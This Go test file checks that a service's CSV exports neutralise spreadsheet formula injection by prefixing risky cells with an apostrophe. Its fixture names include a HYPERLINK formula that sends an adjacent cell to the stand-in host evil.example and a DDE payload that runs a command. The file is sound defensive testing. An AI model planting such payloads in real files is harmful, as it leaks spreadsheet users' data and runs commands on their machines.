package server_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"svc/db"
	"svc/server/dataset"
	"svc/server/inventory"
	"svc/server/servertest"
)

// Names that a file, an app or a customer chose are no formulas in an exported file: a spreadsheet
// would compute them, and one of these sends what stands beside it to a server.
func TestExportsHoldNoFormulas(t *testing.T) {
	t.Parallel()
	s := servertest.New(t)
	id, browser := s.Member(t, "shop@example.com")
	owner := db.Account{ID: id, Profile: db.Profile{Currency: "gbp"}}
	names := []string{`=HYPERLINK("https://evil.example/?"&A2,"Open")`, "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(A1:A9)", "＝1+1", "'=1", "Tea", "'tis tea"}

	set := importNames(t, s, owner, names)
	if _, err := s.App.Accounts.Credit(t.Context(), "shop@example.com", 10, "=1+1"); err != nil {
		t.Fatal(err)
	}
	asked := browser.Post(t, "/console/ask", url.Values{"question": {"How many rows by product?"}, "dataset": {set}})

	// cellsOf returns what a spreadsheet has of an export, after it has looked for formulas.
	cellsOf := func(path string, column int) (all []string) {
		a := browser.Get(t, path)
		rows, err := csv.NewReader(strings.NewReader(string(a.Body))).ReadAll()
		if a.Status != http.StatusOK || err != nil {
			t.Fatalf("%s: %d %v %s", path, a.Status, err, a.Body)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+@\t\r") || strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "-2+") {
					t.Errorf("%s has %q", path, cell)
				}
			}
			all = append(all, row[column])
		}
		slices.Sort(all)
		return all
	}
	want := []string{`'=HYPERLINK("https://evil.example/?"&A2,"Open")`, "'+1+cmd|'/c calc'!A1", "'-2+3", "'@SUM(A1:A9)", "'＝1+1", "'=1", "Tea", "'tis tea"}
	slices.Sort(want)
	exports := map[string][]string{
		"/console/inventory/export.csv":             cellsOf("/console/inventory/export.csv", 0),
		"/console/data/set/" + set + "/rows.csv":    cellsOf("/console/data/set/"+set+"/rows.csv", 1),
		asked.Header.Get("Location") + "/table.csv": cellsOf(asked.Header.Get("Location")+"/table.csv", 0),
	}
	for path, got := range exports {
		if !slices.Equal(got, want) {
			t.Errorf("%s\n%q\nwant\n%q", path, got, want)
		}
	}
	if notes := cellsOf("/console/wallet/ledger.csv", 10); !slices.Equal(notes, []string{"'=1+1"}) {
		t.Errorf("notes %q", notes)
	}
	if rows := cellsOf("/console/data/set/"+set+"/rows.csv", 2); !slices.Contains(rows, "-2.5") && !slices.Contains(rows, "-2.50") {
		t.Errorf("a number is no formula: %q", rows)
	}
}

// importNames imports names as those of items and of sold products. It returns the dataset.
func importNames(t *testing.T, s *servertest.Server, owner db.Account, names []string) (datasetID string) {
	t.Helper()
	table := [][]string{{"name", "sku", "price"}}
	sales := [][]string{{"Date", "Product", "Amount"}}
	for i, name := range names {
		table = append(table, []string{name, string(rune('a' + i)), "2"})
		sales = append(sales, []string{"2026-02-0" + string(rune('1'+i%9)), name, "-2.50"})
	}
	write := func(rows [][]string) (string, int64) {
		var text strings.Builder
		if err := csv.NewWriter(&text).WriteAll(rows); err != nil {
			t.Fatal(err)
		}
		return text.String(), int64(text.Len())
	}
	text, size := write(table)
	if _, err := s.App.Inventories.Import(t.Context(), owner, inventory.File{Name: "x.csv", Content: strings.NewReader(text), Size: size}, false); err != nil {
		t.Fatal(err)
	}
	text, size = write(sales)
	set, _, err := s.App.Datasets.Import(t.Context(), owner.ID, dataset.File{Name: "x.csv", Content: strings.NewReader(text), Size: size})
	if err != nil {
		t.Fatal(err)
	}
	return set.ID
}
